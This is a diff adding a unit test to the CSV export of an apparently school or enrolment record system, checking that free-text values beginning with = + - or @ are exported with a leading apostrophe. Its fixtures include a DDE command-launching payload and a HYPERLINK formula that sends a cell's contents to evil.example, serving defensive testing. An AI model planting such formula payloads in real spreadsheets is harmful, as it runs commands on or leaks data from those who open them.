@@ -3,7 +3,8 @@
  * Copyright (C) 2026 the xueji authors.  GPL-3.0-or-later; see COPYING.
  *
  * Issue 7: the CSV export — UTF-8 with BOM and GB18030, RFC 4180
- * quoting, masking by role, the required purpose kept out of the chain.
+ * quoting, masking by role, the required purpose kept out of the chain;
+ * values that begin like a spreadsheet formula exported as text.
  */
 #include <errno.h>
 #include <iconv.h>
@@ -308,6 +309,59 @@ test_status_filter(void **state)
 	free(a);
 }
 
+/*
+ * Issue 7, formula injection: whatever was typed into a free-text field
+ * and begins with = + - or @ must not run when the export is opened in
+ * Excel or WPS.  Such a cell gets an apostrophe in front (inside the
+ * quotes when it has any); the rest of the file is as before.
+ */
+static void
+test_formula_injection(void **state)
+{
+	const struct field_input in[] = {
+		{ "name", "钱小多" }, { "birth_month", "2015-02" },
+		{ "guardian_name", "钱父" }, { "guardian_phone", "+86 139 0000 1111" },
+		{ "allergies", "@SUM(1+1)*cmd|' /C calc'!A0" },
+		{ "remarks", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" },
+	};
+	const struct field_input in2[] = {
+		{ "name", "孙小少" }, { "birth_month", "2015-03" },
+		{ "guardian_name", "孙母" }, { "guardian_phone", "13900002222" },
+		{ "allergies", "-青霉素" }, { "remarks", "+1 是爸爸的号码" },
+	};
+	struct fixture	*f = *state;
+	char		*n3, *n4, *buf, *want;
+	size_t		 len, rows;
+
+	n3 = enrol(f->sv, in, nitems(in));
+	n4 = enrol(f->sv, in2, nitems(in2));
+	assert_int_equal(export(f->sv, -1, "对账", EXPORT_UTF8_BOM, &buf, &len,
+	    &rows), XJ_OK);
+	assert_int_equal(rows, 4);
+	/* The phone was stored as its digits: no +86, nothing to guard. */
+	xasprintf(&want, "%s,%s,钱小多,2015-02,钱父,13900001111,"
+	    "'@SUM(1+1)*cmd|' /C calc'!A0,"
+	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"\r\n",
+	    n3, status_label(STATUS_ACTIVE));
+	assert_non_null(strstr(buf, want));
+	free(want);
+	xasprintf(&want, "%s,%s,孙小少,2015-03,孙母,13900002222,'-青霉素,"
+	    "'+1 是爸爸的号码\r\n", n4, status_label(STATUS_ACTIVE));
+	assert_non_null(strstr(buf, want));
+	free(want);
+	/* No line of the file has a cell that starts a formula. */
+	assert_null(strstr(buf, ",="));
+	assert_null(strstr(buf, ",\"="));
+	assert_null(strstr(buf, ",@"));
+	assert_null(strstr(buf, ",-"));
+	assert_null(strstr(buf, ",+"));
+	/* Untouched: an apostrophe inside a name, the other records. */
+	assert_non_null(strstr(buf, ",O'Neil Anna,2016-05,"));
+	free(buf);
+	free(n3);
+	free(n4);
+}
+
 int
 main(void)
 {
@@ -320,6 +374,8 @@ main(void)
 		    teardown),
 		cmocka_unit_test_setup_teardown(test_refused, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_status_filter, setup,
+		    teardown),
+		cmocka_unit_test_setup_teardown(test_formula_injection, setup,
 		    teardown),
 	};
 
